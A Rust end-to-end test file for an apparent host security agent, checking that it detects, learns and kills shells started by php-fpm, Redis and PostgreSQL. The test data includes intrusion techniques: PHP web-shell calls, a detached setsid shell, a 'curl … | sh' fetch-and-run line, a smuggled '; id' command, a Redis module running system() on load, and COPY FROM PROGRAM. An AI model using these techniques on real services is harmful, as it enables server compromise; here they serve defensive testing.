//! Real services in cgroups of their own, and what an intruder has them start.
#![allow(clippy::unwrap_used, missing_docs)]

use std::io::{Read, Write};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::UnixStream;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::{Mutex, MutexGuard, PoisonError};
use std::time::{Duration, Instant};

use davy_model::{Action, ActionState, Finding, FindingKind, ServiceStart};
use davy_test_e2e::{Agent, Scope, assert_published, root_or_skip};
use davy_wire::{Command as Order, Query, Reply, RequestBody};

const PATIENCE: Duration = Duration::from_secs(30);

/// One test at a time: each agent sees the whole host.
static ONE_AT_A_TIME: Mutex<()> = Mutex::new(());

fn alone() -> MutexGuard<'static, ()> {
    ONE_AT_A_TIME.lock().unwrap_or_else(PoisonError::into_inner)
}

/// The first of these that is installed; of a folder the newest.
fn installed(what: &str, folder: &str, beginning: &str, within: &str) -> Option<PathBuf> {
    let entries = std::fs::read_dir(folder).into_iter().flatten().flatten().map(|entry| entry.path());
    let named =
        |path: &PathBuf| path.file_name().is_some_and(|name| name.to_string_lossy().starts_with(beginning));
    let mut found: Vec<PathBuf> = entries
        .filter(named)
        .map(|path| if within.is_empty() { path } else { path.join(within) })
        .filter(|p| p.exists())
        .collect();
    found.sort();
    if found.is_empty() {
        println!("SKIPPED: {what} is not installed");
    }
    found.pop()
}

/// A folder that services of any user may enter.
fn folder() -> tempfile::TempDir {
    let folder = tempfile::Builder::new().prefix("davy-services-").tempdir().unwrap();
    std::fs::set_permissions(folder.path(), PermissionsExt::from_mode(0o755)).unwrap();
    folder
}

fn until<T>(what: &str, mut look: impl FnMut() -> Option<T>) -> T {
    let end = Instant::now() + PATIENCE;
    loop {
        if let Some(found) = look() {
            return found;
        }
        assert!(Instant::now() < end, "{what}: not within {PATIENCE:?}");
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// A child of the test's own.
struct Service(Child);

impl Drop for Service {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// PHP's process manager with one worker.
struct Php {
    folder: tempfile::TempDir,
    _service: Service,
}

impl Php {
    fn start(scope: &Scope) -> Option<Self> {
        let program = installed("php-fpm", "/usr/sbin", "php-fpm", "")?;
        let folder = folder();
        let dir = folder.path().display().to_string();
        let config = format!(
            "[global]\nerror_log = {dir}/log\ndaemonize = no\n[www]\nuser = www-data\ngroup = www-data\n\
             listen = {dir}/sock\npm = static\npm.max_children = 1\n"
        );
        std::fs::write(folder.path().join("conf"), config).unwrap();
        let mut command = Command::new(program);
        command.args(["-n", "-F", "-y"]).arg(folder.path().join("conf"));
        let service = Service(scope.spawn(&mut command).unwrap());
        until("php-fpm", || UnixStream::connect(folder.path().join("sock")).ok());
        Some(Self { folder, _service: service })
    }

    /// What a page of this code answers, as a web server asks for it (FastCGI 1.0).
    fn page(&self, code: &str) -> String {
        let script = self.folder.path().join("page.php");
        std::fs::write(&script, format!("<?php {code}")).unwrap();
        let mut socket = UnixStream::connect(self.folder.path().join("sock")).unwrap();
        socket.set_read_timeout(Some(PATIENCE)).unwrap();
        let record = |kind: u8, content: &[u8]| {
            let [high, low] = u16::try_from(content.len()).unwrap().to_be_bytes();
            [&[1, kind, 0, 1, high, low, 0, 0], content].concat()
        };
        let mut parameters = Vec::new();
        for (name, value) in [("SCRIPT_FILENAME", script.to_str().unwrap()), ("REQUEST_METHOD", "GET")] {
            parameters.extend([u8::try_from(name.len()).unwrap(), u8::try_from(value.len()).unwrap()]);
            parameters.extend([name.as_bytes(), value.as_bytes()].concat());
        }
        let begin = record(1, &[0, 1, 0, 0, 0, 0, 0, 0]);
        let request = [begin, record(4, &parameters), record(4, &[]), record(5, &[])].concat();
        socket.write_all(&request).unwrap();
        let mut answer = Vec::new();
        socket.read_to_end(&mut answer).unwrap();
        String::from_utf8_lossy(&answer).into_owned()
    }
}

/// Findings that this service started this command.
fn breaches(agent: &Agent, service: &str, command: &str) -> Vec<Finding> {
    let says = |f: &Finding| f.evidence.iter().any(|e| e.text.contains(service) && e.text.contains(command));
    let mut findings = agent.findings().unwrap();
    findings.retain(|f| f.kind == FindingKind::Service && says(f));
    findings
}

fn breach(agent: &Agent, service: &str, command: &str) -> Finding {
    let what = format!("a finding that {service} started `{command}`");
    agent.wait_for(&what, PATIENCE, |agent| Ok(breaches(agent, service, command).pop())).unwrap()
}

fn technique(finding: &Finding) -> Vec<&str> {
    finding.techniques.iter().map(|technique| technique.0.as_str()).collect()
}

#[test]
fn a_shell_from_php_is_found_and_mail_is_not() {
    if !root_or_skip() {
        return;
    }
    let _alone = alone();
    let scope = Scope::make("php").unwrap();
    // It runs before the agent does.
    let Some(php) = Php::start(&scope) else { return };
    let agent = Agent::start("").unwrap();
    assert!(php.page("echo 6*7;").contains("42"));
    php.page("shell_exec('/usr/sbin/sendmail -t -i -fshop@example.org');");
    assert!(php.page("system('id');").contains("uid="));
    let found = breach(&agent, "php-fpm", "sh -c id");
    assert_eq!(technique(&found), ["T1505.003"]);
    assert!(found.summary.contains("a shell"), "{}", found.summary);
    // Through programs of no kind, from a process whose parents are gone.
    php.page("shell_exec('(setsid env python3 -c 1 >/dev/null 2>&1 &) ');");
    breach(&agent, "php-fpm", "python3 -c 1");
    assert!(breaches(&agent, "php-fpm", "sh -c /usr/sbin/sendmail").is_empty());
    let incidents = agent.incidents().unwrap();
    let incident = incidents.iter().find(|i| i.findings.iter().any(|f| f.id == found.id)).unwrap();
    assert!(incident.timeline.iter().any(|entry| entry.text.contains("php-fpm")), "{:?}", incident.timeline);
    let mut kills = incident.actions.iter().filter(|r| matches!(r.action, Action::Kill { .. }));
    assert!(kills.all(|record| record.state == ActionState::WouldHave), "{:?}", incident.actions);
}

#[test]
fn enforced_a_shell_from_php_is_ended_and_php_goes_on() {
    if !root_or_skip() {
        return;
    }
    let _alone = alone();
    let (scope, free) = (Scope::make("php-in").unwrap(), Scope::make("php-out").unwrap());
    let Some(php) = Php::start(&scope) else { return };
    let Some(other) = Php::start(&free) else { return };
    let policy = format!("[scope]\ncgroups = [\"{}\"]\n[services]\nmode = \"enforce\"\n", scope.name());
    let agent = Agent::start(&policy).unwrap();
    let sleeps = |scope: &Scope| {
        let command = |pid: &u32| std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        scope.pids().iter().filter(|pid| command(pid).starts_with(b"sleep\0")).count()
    };
    let shell = "shell_exec('(setsid env sh -c \"sleep 271; true\" >/dev/null 2>&1 &)');";
    php.page(shell);
    other.page(shell);
    breach(&agent, "php-fpm", "sleep 271");
    until("the shell in the scope is ended", || (sleeps(&scope) == 0).then_some(()));
    assert_eq!(sleeps(&free), 1, "outside the scope it goes on");
    assert!(php.page("echo 6*7;").contains("42"), "php goes on");
    // It was all of these at once. Where the kernel judges it was refused, and the other columns say so.
    for tried in ["a shell", "a shell through env", "a shell in a session of its own"] {
        assert_published("Shells that a service starts ([services])", tried, "ended later");
    }
    agent
        .wait_for("the kill in the incident", PATIENCE, |agent| {
            let incidents = agent.incidents()?;
            let mut actions = incidents.iter().flat_map(|incident| &incident.actions);
            Ok(actions
                .any(|r| matches!(r.action, Action::Kill { .. }) && r.state == ActionState::Done)
                .then_some(()))
        })
        .unwrap();
}

fn starts(agent: &Agent) -> Vec<ServiceStart> {
    let replies = agent.ask(RequestBody::Query(Query::ServiceStarts { limit: 100 })).unwrap();
    replies
        .into_iter()
        .filter_map(|r| if let Reply::ServiceStart(start) = r { Some(start) } else { None })
        .collect()
}

#[test]
fn what_is_learned_of_a_service_may_start_afterwards() {
    if !root_or_skip() {
        return;
    }
    let _alone = alone();
    let scope = Scope::make("learn").unwrap();
    let Some(php) = Php::start(&scope) else { return };
    let agent = Agent::start("[services]\nmode = \"learn\"\n").unwrap();
    php.page("shell_exec('echo thumbnail 17.png');");
    let learned = agent
        .wait_for("what was learned", PATIENCE, |agent| {
            Ok(starts(agent).into_iter().find(|start| start.command == "sh -c echo thumbnail *"))
        })
        .unwrap();
    assert_eq!(
        (learned.service.as_str(), learned.users.as_slice(), learned.odd.len()),
        ("php-fpm", &["www-data".to_owned()][..], 0)
    );
    php.page("shell_exec('curl -s http://192.0.2.1/x | sh');");
    let odd = agent
        .wait_for("what is odd", PATIENCE, |agent| {
            Ok(starts(agent).into_iter().find(|s| s.command.contains("curl")))
        })
        .unwrap();
    assert!(!odd.odd.is_empty());
    assert!(breaches(&agent, "php-fpm", "").is_empty(), "learning tells nothing");
    // Taken into the policy, it is no finding, and what is more than it is.
    let plain: Vec<ServiceStart> = starts(&agent).into_iter().filter(|start| start.odd.is_empty()).collect();
    let policy = davy_trust::services::Learned::to_toml(&plain);
    std::fs::write(agent.base().join("etc/davy.toml"), policy).unwrap();
    agent.ask(RequestBody::Command(Order::Reload)).unwrap();
    php.page("shell_exec('echo thumbnail 18.png');");
    php.page("shell_exec('echo thumbnail 18.png; id');");
    breach(&agent, "php-fpm", "18.png; id");
    assert_eq!(breaches(&agent, "php-fpm", "18.png`").len(), 0);
    agent
        .wait_for("it waits no longer", PATIENCE, |agent| {
            Ok((!starts(agent).iter().any(|start| start.command == "sh -c echo thumbnail *")).then_some(()))
        })
        .unwrap();
}

#[test]
fn a_shell_from_redis_is_found() {
    if !root_or_skip() {
        return;
    }
    let _alone = alone();
    let Some(program) = installed("redis", "/usr/bin", "redis-server", "") else { return };
    let (scope, folder) = (Scope::make("redis").unwrap(), folder());
    let agent = Agent::start("").unwrap();
    // A module that starts a shell as soon as it is loaded, as those of intruders do on demand.
    let (source, module) = (folder.path().join("module.c"), folder.path().join("module.so"));
    std::fs::write(
        &source,
        "#include <stdlib.h>\nint RedisModule_OnLoad(void) { return 1 | system(\"id >/dev/null\"); }\n",
    )
    .unwrap();
    let built =
        Command::new("cc").args(["-shared", "-fPIC", "-o"]).args([&module, &source]).status().unwrap();
    assert!(built.success());
    let socket = folder.path().join("sock");
    let mut command = Command::new(program);
    command
        .args(["--port", "0", "--enable-module-command", "yes", "--save", "", "--unixsocket"])
        .arg(&socket);
    command.arg("--dir").arg(folder.path()).stdout(Stdio::null());
    let _service = Service(scope.spawn(&mut command).unwrap());
    let mut client = until("redis", || UnixStream::connect(&socket).ok());
    client.write_all(format!("MODULE LOAD {}\r\n", module.display()).as_bytes()).unwrap();
    let found = breach(&agent, "redis", "sh -c id >/dev/null");
    assert_eq!(technique(&found), ["T1059.004"]);
}

#[test]
fn a_program_that_postgresql_copies_from_is_found() {
    if !root_or_skip() {
        return;
    }
    let _alone = alone();
    let Some(bin) = installed("PostgreSQL", "/usr/lib/postgresql", "1", "bin") else { return };
    let (scope, folder) = (Scope::make("postgresql").unwrap(), folder());
    let data = folder.path().join("data");
    std::fs::create_dir(&data).unwrap();
    let as_nobody = |program: &Path| {
        let mut command = Command::new("setpriv");
        command.args(["--reuid=nobody", "--regid=nogroup", "--clear-groups"]).arg(program);
        command.env("LC_ALL", "C").current_dir("/");
        command
    };
    std::os::unix::fs::chown(&data, Some(65534), Some(65534)).unwrap();
    std::fs::set_permissions(folder.path(), PermissionsExt::from_mode(0o777)).unwrap();
    let mut made = as_nobody(&bin.join("initdb"));
    made.args(["--auth=trust", "--no-sync", "--username=nobody", "-D"]).arg(&data).stdout(Stdio::null());
    assert!(made.status().unwrap().success());
    let agent = Agent::start("").unwrap();
    let mut server = as_nobody(&bin.join("postgres"));
    server.args(["-c", "listen_addresses=", "-c", "fsync=off", "-k"]).arg(folder.path()).arg("-D").arg(&data);
    let _service = Service(scope.spawn(server.stderr(Stdio::null())).unwrap());
    let ask = |sql: &str| {
        let mut client = Command::new(bin.join("psql"));
        client.arg("-h").arg(folder.path()).args(["-U", "nobody", "-d", "postgres", "-qc", sql]);
        client.stdout(Stdio::null()).stderr(Stdio::null()).status().unwrap().success()
    };
    until("PostgreSQL", || ask("SELECT 1").then_some(()));
    assert!(ask("CREATE TABLE t (line text); COPY t FROM PROGRAM 'id';"));
    let found = breach(&agent, "postgresql", "sh -c id");
    assert_eq!(technique(&found), ["T1059.004"]);
}
